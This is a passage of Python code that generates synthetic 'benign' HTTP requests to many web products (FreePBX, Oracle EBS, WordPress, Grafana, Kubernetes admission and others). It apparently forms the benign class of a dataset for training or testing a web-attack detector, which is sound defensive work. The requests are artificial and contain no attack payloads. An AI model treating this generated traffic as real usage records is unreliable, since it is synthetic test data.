    ck = ("Cookie", "PHPSESSID=" + g.alnum(26).lower() + "; lang=en_US")
    for q_ in ["module=core&command=getExtensionGrid&type=all&order=asc",
               "module=dashboard&command=getcontent&rawname=overview",
               "module=endpoint&command=model&template=SPA504G&model=model&brand=cisco",
               "module=endpoint&command=model&template=T46U&model=model&brand=yealink",
               "module=cdr&command=getJSON&jdata=grid&offset=0&limit=25",
               "module=framework&command=reload"]:
        g.add(B, "freepbx", "GET", "/admin/ajax.php?" + q_, H, [ck, ("X-Requested-With", "XMLHttpRequest")], accept="application/json")
    g.add(B, "freepbx", "POST", "/admin/config.php?display=extensions", H, [ck],
          body=form([("action", "edit"), ("extension", "2041"), ("name", "Reception Desk"), ("outboundcid", '"Example Ltd" <+4930123456>'),
                     ("devinfo_secret", g.alnum(16)), ("emergency_cid", "")]), ctype=FORM, accept=HTML_ACCEPT)
    H = "ebs.example.com"
    g.add(B, "oracle-ebs", "GET", "/OA_HTML/AppsLocalLogin.jsp?requestUrl=" + q("/OA_HTML/OA.jsp?OAFunc=OAHOMEPAGE"), H, accept=HTML_ACCEPT)
    g.add(B, "oracle-ebs", "POST", "/OA_HTML/AppsLocalLogin.jsp", H,
          body=form([("usernameField", "JSMITH"), ("passwordField", g.alnum(10)), ("langCode", "US"), ("_lAccessibility", "N")]), ctype=FORM, accept=HTML_ACCEPT)
    g.add(B, "oracle-ebs", "GET", "/OA_HTML/OA.jsp?OAFunc=OAHOMEPAGE&OAPB=_OAFWK_BRAND&transactionid=" + str(g.r.randrange(10**8)), H,
          [("Cookie", "EBSDB=" + g.alnum(40))], accept=HTML_ACCEPT)
    xml = ('<?xml version="1.0" encoding="UTF-8"?><initialize><param name="ui_def_id">1041</param>'
           '<param name="return_url">https://ebs.example.com/OA_HTML/OA.jsp?OAFunc=ONT_PORTAL_ORDER</param><param name="ui_type">JRAD</param></initialize>')
    g.add(B, "oracle-ebs", "POST", "/OA_HTML/configurator/UiServlet", H, [("Cookie", "EBSDB=" + g.alnum(40))],
          body=form([("redirectFromJsp", "1"), ("getUiType", xml)]), ctype=FORM, accept=HTML_ACCEPT)
    H = "erp.example.com"
    g.add(B, "ofbiz", "GET", "/webtools/control/main", H, [("Cookie", "JSESSIONID=" + g.hexs(32).upper() + ".jvm1")], accept=HTML_ACCEPT)
    g.add(B, "ofbiz", "POST", "/ordermgr/control/FindOrder", H, [("Cookie", "JSESSIONID=" + g.hexs(32).upper() + ".jvm1")],
          body=form([("orderId", ""), ("orderStatusId", "ORDER_APPROVED"), ("minDate", "2025-04-01 00:00:00.000"), ("VIEW_SIZE", "50")]),
          ctype=FORM, accept=HTML_ACCEPT)
    H = "zabbix.example.com"
    for meth, params in [("host.get", {"output": ["hostid", "host"], "selectInterfaces": ["ip"], "filter": {"status": 0}}),
                         ("problem.get", {"output": "extend", "recent": True, "sortfield": ["eventid"], "sortorder": "DESC", "limit": 50}),
                         ("user.get", {"output": ["userid", "username"], "selectRole": ["roleid", "name", "type"]}),
                         ("item.get", {"output": ["itemid", "name", "lastvalue"], "hostids": "10084", "search": {"key_": "system.cpu"}})]:
        g.add(B, "zabbix", "POST", "/api_jsonrpc.php", H, [("Authorization", "Bearer " + g.hexs(64))],
              body=jd({"jsonrpc": "2.0", "method": meth, "params": params, "id": g.r.randrange(1, 99)}), ctype="application/json-rpc", ua=g.tool())
    H = "glpi.example.com"
    g.add(B, "glpi", "POST", "/front/inventory.php", H,
          body=('<?xml version="1.0" encoding="UTF-8" ?><REQUEST><QUERY>PROLOG</QUERY><DEVICEID>ws-' + g.alnum(6).lower() +
                '-2025-05-14-09-12-33</DEVICEID><TOKEN>' + str(g.r.randrange(10**7, 10**8)) + '</TOKEN></REQUEST>'),
          ctype="application/xml", ua="GLPI-Agent_v1.7")
    g.add(B, "glpi", "GET", "/front/ticket.php?is_deleted=0&as_map=0&criteria%5B0%5D%5Bfield%5D=12&criteria%5B0%5D%5Bsearchtype%5D=equals&criteria%5B0%5D%5Bvalue%5D=notold&itemtype=Ticket&start=0",
          H, [("Cookie", "glpi_" + g.hexs(32) + "=" + g.alnum(26))], accept=HTML_ACCEPT)
    H = "cacti.example.com"
    g.add(B, "cacti", "GET", "/cacti/graph_view.php?action=tree&node=tbranch-7&host_id=3&site_id=-1&host_template_id=-1&hgd=&hyper=true", H,
          [("Cookie", "Cacti=" + g.alnum(26))], accept=HTML_ACCEPT)
    g.add(B, "cacti", "POST", "/cacti/graph_templates.php?header=false", H, [("Cookie", "Cacti=" + g.alnum(26))],
          body=form([("__csrf_magic", "sid:" + g.hexs(40) + "," + str(g.r.randrange(10**9))), ("name", "Interface - Traffic (bits/sec)"),
                     ("graph_template_id", "2"), ("vertical_label", "bits per second"), ("right_axis_label", "packets"),
                     ("action", "save"), ("save_component_template", "1")]), ctype=FORM)


def ben_python_tools(g):
    B = "benign"
    H = "pgadmin.example.com"
    hs = [("X-pgA-CSRFToken", g.alnum(40) + "." + g.alnum(20)), ("Cookie", f"pga4_session={g.uuid()}!{g.alnum(44)}=")]
    g.add(B, "pgadmin", "POST", "/authenticate/login", H, body=form([("csrf_token", g.alnum(40)), ("email", "dba@example.com"), ("password", g.alnum(14)), ("language", "en")]),
          ctype=FORM, accept=HTML_ACCEPT)
    g.add(B, "pgadmin", "GET", "/browser/", H, hs, accept=HTML_ACCEPT)
    g.add(B, "pgadmin", "GET", "/dashboard/dashboard_stats/1/16384?chart_names=session_stats,tps_stats,ti_stats", H, hs, accept="application/json")
    g.add(B, "pgadmin", "POST", f"/sqleditor/query_tool/download/{g.r.randrange(10**6, 10**7)}", H, hs,
          body=jd({"query_commited": True, "filename": "orders_export.csv"}), ctype=JSON_CT)
    g.add(B, "pgadmin", "GET", "/browser/table/nodes/1/1/16384/2200/", H, hs, accept="application/json")
    H = "langflow.example.com"
    for i in range(3):
        g.add(B, "langflow", "POST", "/api/v1/run/" + g.uuid() + "?stream=false", H, [("x-api-key", "sk-" + g.alnum(40))],
              body=jd({"input_value": g.r.choice(["Summarise the attached meeting notes in 3 bullets",
                                                  "What's our refund policy for damaged items?", "Translate 'good morning' to Japanese"]),
                       "output_type": "chat", "input_type": "chat", "tweaks": {}}), ctype=JSON_CT, ua=g.tool(), accept="application/json")
    g.add(B, "langflow", "GET", "/api/v1/flows/?remove_example_flows=true&components_only=false&get_all=true&header_flows=false&page=1&size=50",
          H, [("Authorization", "Bearer " + g.alnum(60))], accept="application/json")
    H = "flowise.example.com"
    g.add(B, "flowise", "POST", "/api/v1/prediction/" + g.uuid(), H, [("Authorization", "Bearer " + g.alnum(40))],
          body=jd({"question": "Which plan includes SSO?", "overrideConfig": {"sessionId": g.uuid()}}), ctype=JSON_CT, accept="application/json")
    g.add(B, "flowise", "POST", "/api/v1/node-load-method/customMCP", H, [("Authorization", "Bearer " + g.alnum(40))],
          body=jd({"loadMethod": "listActions", "inputs": {"mcpServerConfig": jd({"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "/data/docs"]})}}),
          ctype=JSON_CT, accept="application/json")
    H = "wazuh.example.com:55000"
    g.add(B, "wazuh", "POST", "/security/user/authenticate", H, [("Authorization", "Basic " + b64("wazuh-wui:" + g.alnum(16)))], body="",
          ctype=JSON_CT, ua=g.tool())
    g.add(B, "wazuh", "POST", "/security/user/authenticate/run_as", H, [("Authorization", "Basic " + b64("wazuh-wui:" + g.alnum(16)))],
          body=jd({"user_name": "analyst", "roles": ["readonly"], "auth_context": {"department": "soc"}}), ctype=JSON_CT, ua=g.tool())
    for uri in ["/agents?limit=500&select=name,ip,status,os.name&sort=-dateAdd", "/agents/summary/status", "/manager/info",
                "/syscheck/003?limit=20&offset=0&search=" + q("/etc/ssh"), "/rules?limit=10&search=sshd&level=5-10"]:
        g.add(B, "wazuh", "GET", uri, H, [("Authorization", "Bearer " + "eyJhbGciOiJFUzUxMiIsInR5cCI6IkpXVCJ9." + g.alnum(120) + "." + g.alnum(80))],
              ua="axios/1.7.9", accept="application/json")
    H = "bento.example.com"
    g.add(B, "bentoml", "POST", "/summarize", H, body=jd({"text": "The quarterly results exceeded expectations, driven by strong demand in EMEA."}),
          ctype=JSON_CT, ua=g.tool(), accept="application/json")
    g.add(B, "bentoml", "GET", "/readyz", H, ua="kube-probe/1.31")


def ben_java_products(g):
    B = "benign"
    H = "camel.example.com"
    for i in range(4):
        g.add(B, "camel", "POST", "/api/orders", H,
              [("X-Correlation-Id", g.uuid()), ("CamelHttpMethod" if i == 0 else "X-Request-Source", "POST" if i == 0 else "web")],
              body=jd({"orderId": f"SO-{g.r.randrange(10**5, 10**6)}", "customer": email(g),
                       "lines": [{"sku": "MB-" + g.alnum(4).upper(), "qty": g.r.randrange(1, 5), "price": round(g.r.uniform(5, 200), 2)}]}),
              ctype=JSON_CT, ua=g.tool(), accept="application/json")
    g.add(B, "camel", "GET", "/api/orders/export?format=csv&from=2025-04-01&to=2025-04-30", H, ua=g.tool())
    H = "forms.example.com"
    for uri in ["/bin/querybuilder.json?path=/content/dam/forms&type=dam:Asset&p.limit=20&orderby=@jcr:content/jcr:lastModified",
                "/content/forms/af/onboarding.html?wcmmode=disabled", "/libs/granite/core/content/login.html",
                "/content/dam/forms/policies/travel-2025.pdf"]:
        g.add(B, "aem", "GET", uri, H, [("Cookie", "login-token=" + g.uuid() + "%3a" + g.alnum(30))], accept=HTML_ACCEPT)
    g.add(B, "aem", "POST", "/content/forms/af/onboarding/jcr:content/guideContainer.af.submit.jsp", H,
          body=form([("guideContainerPath", "/content/forms/af/onboarding/jcr:content/guideContainer"), ("firstName", name(g)[0]),
                     ("lastName", name(g)[1]), ("startDate", "2025-07-01"), ("_charset_", "UTF-8")]), ctype=FORM, accept=HTML_ACCEPT)
    g.add(B, "aem", "GET", "/adminui/debug?path=/content/forms/af/onboarding", H, [("Cookie", "login-token=" + g.uuid())], accept=HTML_ACCEPT)
    H = "tika.example.com:9998"
    pdf = ("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
           "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>\nendobj\n"
           "4 0 obj\n<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 712 Td (Invoice 2025-0412) Tj ET\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
    g.add(B, "tika", "PUT", "/tika", H, [("Accept", "text/plain")], body=pdf, ctype="application/pdf", ua=g.tool())
    g.add(B, "tika", "PUT", "/meta", H, [("Accept", "application/json")], body=pdf, ctype="application/pdf", ua=g.tool())
    xfa_ok = ('<?xml version="1.0" encoding="UTF-8"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">'
              '<subform name="form1"><field name="Name"><value><text>Jane Doe</text></value></field></subform></template></xdp:xdp>')
    pdf2 = ("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /AcroForm 4 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
            f"4 0 obj\n<< /Fields [] /XFA 5 0 R >>\nendobj\n5 0 obj\n<< /Length {len(xfa_ok)} >>\nstream\n{xfa_ok}\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
    g.add(B, "tika", "PUT", "/rmeta/text", H, [("Accept", "application/json")], body=pdf2, ctype="application/pdf", ua=g.tool())
    g.add(B, "tika", "PUT", "/detect/stream", H, [("Content-Disposition", "attachment; filename=notes.txt")],
          body="Meeting notes – 14 May\n- ship v2.3\n- fix the login bug\n", ctype="text/plain", ua=g.tool())
    H = "maps.example.com"
    for i in range(4):
        bbox = ",".join(str(round(v, 4)) for v in (g.r.uniform(5, 6), g.r.uniform(47, 48), g.r.uniform(6, 7), g.r.uniform(48, 49)))
        g.add(B, "geoserver", "GET", "/geoserver/wms?SERVICE=WMS&VERSION=1.1.1&REQUEST=GetMap&FORMAT=image%2Fpng&TRANSPARENT=true&LAYERS="
              + q(g.r.choice(["topp:states", "osm:roads", "ne:countries"])) + f"&SRS=EPSG%3A4326&STYLES=&WIDTH=768&HEIGHT=512&BBOX={bbox}", H,
              [("Referer", "https://maps.example.com/viewer/")], accept="image/avif,image/webp,*/*")
    g.add(B, "geoserver", "GET", "/geoserver/wfs?service=WFS&version=2.0.0&request=GetFeature&typeNames=topp:states&outputFormat=application/json&CQL_FILTER="
          + q("STATE_NAME LIKE 'New%' AND PERSONS > 1000000"), H, accept="application/json")
    g.add(B, "geoserver", "GET", "/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=cat", H, accept="application/xml")
    g.add(B, "geoserver", "POST", "/geoserver/wfs", H,
          body=("<wfs:GetFeature service='WFS' version='2.0.0' outputFormat='application/json' xmlns:wfs='http://www.opengis.net/wfs/2.0' "
                "xmlns:fes='http://www.opengis.net/fes/2.0'><wfs:Query typeNames='osm:pois'><fes:Filter><fes:PropertyIsEqualTo>"
                "<fes:ValueReference>amenity</fes:ValueReference><fes:Literal>cafe</fes:Literal></fes:PropertyIsEqualTo></fes:Filter>"
                "</wfs:Query></wfs:GetFeature>"), ctype="application/xml")
    g.add(B, "geoserver", "GET", "/geoserver/rest/workspaces/topp/datastores.json", "maps.example.com",
          [("Authorization", "Basic " + b64("admin:" + g.alnum(12)))], ua=g.tool(), accept="application/json")
    H = "ise.example.com"
    for i in range(3):
        f, l = name(g)
        uname = unicodedata.normalize("NFKD", (f[0] + l).lower().replace("'", "").replace(" ", "")).encode("ascii", "ignore").decode()
        g.add(B, "cisco-ise", "POST", "/ers/config/internaluser", H, [("Authorization", "Basic " + b64("ersadmin:" + g.alnum(12))), ("Accept", "application/json")],
              body=jd({"InternalUser": {"name": uname, "firstName": f, "lastName": l, "email": email(g), "password": g.alnum(10) + "!1a",
                                        "enabled": True, "changePassword": True, "identityGroups": g.uuid()}}), ctype=JSON_CT, ua=g.tool())
    g.add(B, "cisco-ise", "GET", "/ers/config/endpoint?size=100&page=1&filter=" + q("mac.STARTSW.00:1A"), H,
          [("Authorization", "Basic " + b64("ersadmin:" + g.alnum(12))), ("Accept", "application/json")], ua=g.tool())
    H = "kafka-ui.example.com"
    g.add(B, "kafka-ui", "GET", "/api/clusters/local/topics/orders/messages?q=" + q("value.status == 'FAILED'") +
          "&filterQueryType=STRING_CONTAINS&limit=100&seekDirection=FORWARD&keySerde=String&valueSerde=String&seekType=BEGINNING", H, accept="text/event-stream")
    H = "struts.example.com"
    body, ct = multipart([("Upload", "GIF89a-placeholder", "avatar.gif", "image/gif"), ("caption", "New profile picture")], g.wk_boundary())
    g.add(B, "struts", "POST", "/upload.action", H, body=body, ctype=ct, accept=HTML_ACCEPT)
    H = "gateway.internal.example.com"
    g.add(B, "spring-cloud-gateway", "GET", "/actuator/health", H, ua="kube-probe/1.31")
    g.add(B, "spring-cloud-gateway", "POST", "/actuator/gateway/routes/orders-v2", H,
          body=jd({"id": "orders-v2", "predicates": [{"name": "Path", "args": {"_genkey_0": "/orders/v2/**"}}],
                   "filters": [{"name": "StripPrefix", "args": {"_genkey_0": "2"}}, {"name": "AddRequestHeader", "args": {"name": "X-Route", "value": "orders-v2"}}],
                   "uri": "lb://orders-service", "order": 0}), ctype=JSON_CT, ua=g.tool())


def ben_n8n(g):
    B = "benign"
    H = "n8n.example.com"
    ck = ("Cookie", "n8n-auth=" + g.alnum(60))
    for i in range(4):
        wf = {"name": g.r.choice(["Lead enrichment", "Slack digest", "Invoice reminders", "New signup → CRM"]), "nodes": [
            {"parameters": {"httpMethod": "POST", "path": g.uuid(), "options": {}}, "name": "Webhook", "type": "n8n-nodes-base.webhook", "typeVersion": 2, "position": [240, 300]},
            {"parameters": {"values": {"string": [{"name": "email", "value": "={{ $json.body.email.toLowerCase() }}"},
                                                 {"name": "fullName", "value": "={{ $json.body.first_name }} {{ $json.body.last_name }}"},
                                                 {"name": "createdAt", "value": "={{ $now.toISO() }}"}]}},
             "name": "Set", "type": "n8n-nodes-base.set", "typeVersion": 1, "position": [460, 300]},
            {"parameters": {"conditions": {"number": [{"value1": "={{ $json.score }}", "operation": "larger", "value2": 50}]}},
             "name": "IF", "type": "n8n-nodes-base.if", "typeVersion": 1, "position": [680, 300]}],
            "connections": {"Webhook": {"main": [[{"node": "Set", "type": "main", "index": 0}]]}, "Set": {"main": [[{"node": "IF", "type": "main", "index": 0}]]}},
            "settings": {"executionOrder": "v1"}}
        g.add(B, "n8n", "POST" if i % 2 == 0 else "PATCH", "/rest/workflows" + ("" if i % 2 == 0 else "/" + g.alnum(16)), H, [ck],
              body=jd(wf), ctype=JSON_CT, accept="application/json, text/plain, */*")
    for i in range(5):
        f, l = name(g)
        g.add(B, "n8n", "POST", "/webhook/" + g.uuid(), H,
              body=jd({"first_name": f, "last_name": l, "email": email(g), "company": g.r.choice(["Acme GmbH", "Globex", "Initech", "Umbrella Ltd"]),
                       "score": g.r.randrange(0, 100), "utm": {"source": "linkedin", "campaign": "spring-2025"}}), ctype=JSON_CT, ua=g.tool())
    g.add(B, "n8n", "POST", "/form/" + g.uuid(), H,
          body=form([("field-0", "Anna Bauer"), ("field-1", "anna.bauer@example.com"), ("field-2", "Please call me back after 3pm.")]),
          ctype=FORM, accept=HTML_ACCEPT)
    body, ct = multipart([("field-0", "Tomás López"), ("field-1", "CV attached"), ("field-2", "%PDF-1.4 resume placeholder", "CV_Tomas_Lopez.pdf", "application/pdf")],
                         g.wk_boundary())
    g.add(B, "n8n", "POST", "/form/" + g.uuid(), H, body=body, ctype=ct, accept=HTML_ACCEPT)
    g.add(B, "n8n", "GET", "/rest/executions?filter=" + q(jd({"status": "error", "workflowId": g.alnum(16)})) + "&limit=20", H, [ck], accept="application/json")


def ben_wordpress(g):
    B, T = "benign", "wordpress"
    H = "blog.example.com"
    ck = f"wordpress_logged_in_{g.hexs(32)}=editor%7C{g.r.randrange(10**9)}%7C{g.alnum(43)}%7C{g.hexs(64)}"
    nonce = g.hexs(10)
    for i in range(5):
        g.add(B, T, "GET", g.r.choice(["/", "/2025/05/" + g.r.choice(WORDS) + "-update/", "/category/news/page/2/", "/?s=" + qp(g.r.choice(SEARCHES)),
                                       "/about-us/", "/shop/?orderby=price&paged=2"]), H, accept=HTML_ACCEPT)
    for uri in ["/wp-json/wp/v2/posts?per_page=10&_embed=1&categories=4", "/wp-json/wp/v2/pages?slug=contact", "/wp-json/wc/store/v1/cart",
                "/wp-json/wp/v2/search?search=" + q("gift card") + "&type=post&subtype=any", "/wp-json/oembed/1.0/embed?url=" + q("https://blog.example.com/2025/05/release/")]:
        g.add(B, T, "GET", uri, H, accept="application/json")
    g.add(B, T, "POST", "/wp-login.php", H, [("Cookie", "wordpress_test_cookie=WP%20Cookie%20check")],
          body=form([("log", "editor"), ("pwd", g.alnum(14)), ("rememberme", "forever"), ("wp-submit", "Log In"), ("redirect_to", "https://blog.example.com/wp-admin/"), ("testcookie", "1")]),
          ctype=FORM, accept=HTML_ACCEPT)
    for i in range(3):
        g.add(B, T, "POST", "/wp-admin/admin-ajax.php", H, [("Cookie", ck), ("X-Requested-With", "XMLHttpRequest")],
              body=form([("data[wp-refresh-post-lock][lock]", f"{g.r.randrange(10**9)}:1"), ("data[wp-refresh-post-lock][post_id]", str(g.r.randrange(100, 999))),
                         ("interval", "60"), ("_nonce", nonce), ("action", "heartbeat"), ("screen_id", "post"), ("has_focus", "true")]), ctype=FORM,
              accept="application/json, text/javascript, */*; q=0.01")
    post = ("<!-- wp:paragraph -->\n<p>Our spring release brings <strong>faster checkout</strong> and a new dark mode.</p>\n<!-- /wp:paragraph -->\n\n"
            "<!-- wp:image {\"id\":512,\"sizeSlug\":\"large\"} -->\n<figure class=\"wp-block-image size-large\"><img src=\"https://blog.example.com/wp-content/uploads/2025/05/hero.jpg\" alt=\"New dashboard\" class=\"wp-image-512\"/></figure>\n<!-- /wp:image -->\n\n"
            "<!-- wp:list -->\n<ul><li>Apple Pay &amp; Google Pay</li><li>Saved carts</li></ul>\n<!-- /wp:list -->")
    for i in range(3):
        g.add(B, T, "POST", f"/wp-json/wp/v2/posts/{g.r.randrange(100, 999)}?_locale=user", H, [("Cookie", ck), ("X-WP-Nonce", nonce)],
              body=jd({"id": 1, "title": "Spring release " + str(i + 1), "content": post, "status": g.r.choice(["draft", "publish"]),
                       "excerpt": "Faster checkout, dark mode and more.", "categories": [4, 7], "tags": [12]}), ctype=JSON_CT, accept="application/json")
    body, ct = multipart([("file", "JFIF-binary-placeholder", "team-offsite-2025.jpg", "image/jpeg"), ("alt_text", "Team photo at the offsite")], g.wk_boundary())
    g.add(B, T, "POST", "/wp-json/wp/v2/media", H, [("Cookie", ck), ("X-WP-Nonce", nonce)], body=body, ctype=ct, accept="application/json")
    for i in range(3):
        f, l = name(g)
        g.add(B, T, "POST", "/wp-comments-post.php", H,
              body=form([("comment", g.r.choice(["Great write-up, thanks! Does dark mode work on mobile too?",
                                                  "We hit the same issue after upgrading – clearing the cache fixed it :)",
                                                  "Merci pour l'article ! Très utile."])),
                         ("author", f"{f} {l}"), ("email", email(g)), ("url", ""), ("submit", "Post Comment"),
                         ("comment_post_ID", str(g.r.randrange(100, 999))), ("comment_parent", "0")]), ctype=FORM, accept=HTML_ACCEPT)
    g.add(B, T, "POST", "/wp-admin/admin-ajax.php", H,
          body=form([("give-form-id", "12"), ("give-form-hash", g.hexs(10)), ("give-price-id", "custom"), ("give-amount", "25.00"),
                     ("give_first", "Lars"), ("give_last", "Jensen"), ("give_email", "lars.jensen@example.com"), ("give_title", "Mr."),
                     ("give-gateway", "stripe"), ("action", "give_process_donation")]), ctype=FORM)
    g.add(B, T, "POST", "/wp-json/contact-form-7/v1/contact-forms/42/feedback", H,
          body=form([("_wpcf7", "42"), ("_wpcf7_version", "6.0.3"), ("_wpcf7_locale", "en_US"), ("your-name", "Olga Petrov"),
                     ("your-email", "olga.petrov@example.com"), ("your-subject", "Wholesale pricing"), ("your-message", "Hello,\nDo you offer discounts for 50+ units?\nRegards, Olga")]),
          ctype=FORM, accept="application/json")
    g.add(B, T, "POST", "/wp-json/sure-triggers/v1/automation/action", H, [("st_authorization", "Bearer " + g.alnum(40))],
          body=jd({"integration": "WooCommerce", "type_event": "order_created", "selected_options": {"order_id": g.r.randrange(1000, 9999)}, "fields": [], "context": []}),
          ctype=JSON_CT, ua="SureTriggers/1.0", accept="application/json")
    g.add(B, T, "GET", "/wp-admin/admin-ajax.php?action=depicter-lead-index&s=" + qp("spring promo") + "&perpage=10", H, [("Cookie", ck)], accept="application/json")
    g.add(B, T, "POST", "/xmlrpc.php", H,
          body="<?xml version=\"1.0\"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value><string>editor</string></value></param>"
               "<param><value><string>" + g.alnum(12) + "</string></value></param></params></methodCall>", ctype="text/xml", ua="WordPress/6.7.2; https://blog.example.com")


def ben_grafana(g):
    B, T = "benign", "grafana"
    H = "grafana.example.com"
    ck = ("Cookie", "grafana_session=" + g.hexs(32) + "; grafana_session_expiry=" + str(g.r.randrange(10**9)))
    g.add(B, T, "POST", "/login", H, body=jd({"user": "ops@example.com", "password": g.alnum(14)}), ctype=JSON_CT, accept="application/json")
    for uri in ["/api/search?query=&starred=false&type=dash-db&limit=50", "/api/dashboards/uid/" + g.alnum(9), "/api/folders?limit=100",
                "/api/alertmanager/grafana/api/v2/alerts?active=true&silenced=false", "/api/user/preferences", "/api/health",
                "/d/" + g.alnum(9) + "/kubernetes-cluster?orgId=1&refresh=30s&var-namespace=payments&from=now-6h&to=now",
                "/explore?schemaVersion=1&panes=" + q(jd({"a": {"datasource": "prom", "queries": [{"refId": "A", "expr": "up"}], "range": {"from": "now-1h", "to": "now"}}})) + "&orgId=1"]:
        g.add(B, T, "GET", uri, H, [ck], accept="application/json" if uri.startswith("/api") else HTML_ACCEPT)
    for i in range(5):
        expr = g.r.choice(['sum(rate(http_requests_total{job="api",code=~"5.."}[5m])) by (route)',
                           'histogram_quantile(0.95, sum(rate(http_request_duration_seconds_bucket{namespace="payments"}[5m])) by (le))',
                           'kube_pod_container_status_restarts_total{namespace!~"kube-system|monitoring"} > 3',
                           '100 * (1 - avg by(instance)(rate(node_cpu_seconds_total{mode="idle"}[5m])))',
                           'count_over_time({app="nginx"} |= "error" [5m])'])
        g.add(B, T, "POST", "/api/ds/query?ds_type=prometheus&requestId=Q" + str(100 + i), H, [ck, ("X-Grafana-Org-Id", "1"), ("X-Dashboard-Uid", g.alnum(9))],
              body=jd({"queries": [{"refId": "A", "datasource": {"type": "prometheus", "uid": g.alnum(9)}, "expr": expr, "interval": "", "legendFormat": "{{route}}",
                                    "intervalMs": 15000, "maxDataPoints": 1200}], "from": "now-6h", "to": "now"}), ctype=JSON_CT, accept="application/json")
    g.add(B, T, "POST", "/api/ds/query?ds_type=__expr__&expression=true&requestId=Q200", H, [ck],
          body=jd({"queries": [{"refId": "A", "datasource": {"type": "prometheus", "uid": "prom"}, "expr": "sum(rate(http_requests_total[5m]))"},
                               {"refId": "B", "datasource": {"type": "__expr__", "uid": "__expr__"}, "type": "math", "expression": "$A * 60"}],
                   "from": "now-1h", "to": "now"}), ctype=JSON_CT, accept="application/json")
    dash = {"dashboard": {"uid": g.alnum(9), "title": "Payments – API latency", "tags": ["payments", "slo"], "timezone": "browser", "schemaVersion": 39,
                          "panels": [{"id": 1, "type": "timeseries", "title": "p95 latency", "gridPos": {"h": 8, "w": 12, "x": 0, "y": 0},
                                      "targets": [{"refId": "A", "expr": 'histogram_quantile(0.95, sum by (le) (rate(http_request_duration_seconds_bucket{service="payments"}[5m])))'}],
                                      "fieldConfig": {"defaults": {"unit": "s", "thresholds": {"mode": "absolute", "steps": [{"color": "green", "value": None}, {"color": "red", "value": 0.5}]}}}},
                                     {"id": 2, "type": "text", "title": "Runbook", "options": {"mode": "markdown", "content": "### On-call\n* Check [the runbook](https://wiki.example.com/xwiki/bin/view/Ops/Payments)\n* Escalate to **#payments-oncall**"}}],
                          "templating": {"list": [{"name": "namespace", "type": "query", "query": "label_values(kube_pod_info, namespace)"}]}},
            "folderUid": g.alnum(9), "message": "tweak thresholds", "overwrite": True}
    for i in range(2):
        g.add(B, T, "POST", "/api/dashboards/db", H, [ck], body=jd(dash), ctype=JSON_CT, accept="application/json")
    g.add(B, T, "POST", "/api/annotations", H, [("Authorization", "Bearer glsa_" + g.alnum(32) + "_" + g.hexs(8))],
          body=jd({"dashboardUID": g.alnum(9), "time": 1747213953000, "tags": ["deploy", "payments"], "text": "Deployed payments v2.14.1 (commit 3f9a2c1)"}),
          ctype=JSON_CT, ua="GitHub-Hookshot/" + g.hexs(7), accept="application/json")
    g.add(B, T, "GET", "/render/d-solo/" + g.alnum(9) + "/payments?orgId=1&panelId=1&width=1000&height=500&tz=Europe%2FBerlin", H, [ck], accept="image/png")
    g.add(B, T, "GET", "/public/build/app." + g.hexs(20) + ".js", H, accept="*/*")


def ben_k8s(g):
    B, T = "benign", "k8s-admission"
    def review(kind, group, version, resource, obj, op="CREATE"):
        return jd({"kind": "AdmissionReview", "apiVersion": "admission.k8s.io/v1", "request": {
            "uid": g.uuid(), "kind": {"group": group, "version": version, "kind": kind},
            "resource": {"group": group, "version": version, "resource": resource},
            "name": obj["metadata"]["name"], "namespace": obj["metadata"].get("namespace", "default"), "operation": op,
            "userInfo": {"username": g.r.choice(["system:serviceaccount:argocd:argocd-application-controller", "jane@example.com", "system:serviceaccount:flux-system:kustomize-controller"]),
                         "groups": ["system:authenticated"]},
            "object": obj, "oldObject": None, "dryRun": False, "options": {"kind": "CreateOptions", "apiVersion": "meta.k8s.io/v1"}}})
    anns = [
        {"nginx.ingress.kubernetes.io/rewrite-target": "/$2", "nginx.ingress.kubernetes.io/use-regex": "true"},
        {"nginx.ingress.kubernetes.io/auth-url": "https://auth.example.com/oauth2/auth",
         "nginx.ingress.kubernetes.io/auth-signin": "https://auth.example.com/oauth2/start?rd=$scheme://$host$escaped_request_uri"},
        {"nginx.ingress.kubernetes.io/proxy-body-size": "50m", "nginx.ingress.kubernetes.io/proxy-read-timeout": "120",
         "cert-manager.io/cluster-issuer": "letsencrypt-prod"},
        {"nginx.ingress.kubernetes.io/auth-tls-verify-client": "on", "nginx.ingress.kubernetes.io/auth-tls-secret": "payments/ca-secret",
         "nginx.ingress.kubernetes.io/auth-tls-match-cn": "CN=payments-client"},
        {"nginx.ingress.kubernetes.io/mirror-target": "https://shadow.example.com$request_uri", "nginx.ingress.kubernetes.io/mirror-host": "shadow.example.com"},
        {"nginx.ingress.kubernetes.io/cors-allow-origin": "https://app.example.com, https://admin.example.com",
         "nginx.ingress.kubernetes.io/enable-cors": "true", "nginx.ingress.kubernetes.io/limit-rps": "20"},
    ]
    for ann in anns:
        nm = g.r.choice(["web", "api", "payments", "docs", "grafana"]) + "-" + g.alnum(4).lower()
        obj = {"kind": "Ingress", "apiVersion": "networking.k8s.io/v1", "metadata": {"name": nm, "namespace": "prod", "annotations": ann,
               "labels": {"app.kubernetes.io/name": nm.split("-")[0], "app.kubernetes.io/managed-by": "Helm"}},
               "spec": {"ingressClassName": "nginx", "tls": [{"hosts": [nm + ".example.com"], "secretName": nm + "-tls"}],
                        "rules": [{"host": nm + ".example.com", "http": {"paths": [{"path": "/api(/|$)(.*)", "pathType": "ImplementationSpecific",
                                   "backend": {"service": {"name": nm, "port": {"number": 8080}}}}]}}]}}
        g.add(B, T, "POST", "/networking/v1/ingresses?timeout=10s", "ingress-nginx-controller-admission.ingress-nginx.svc:443",
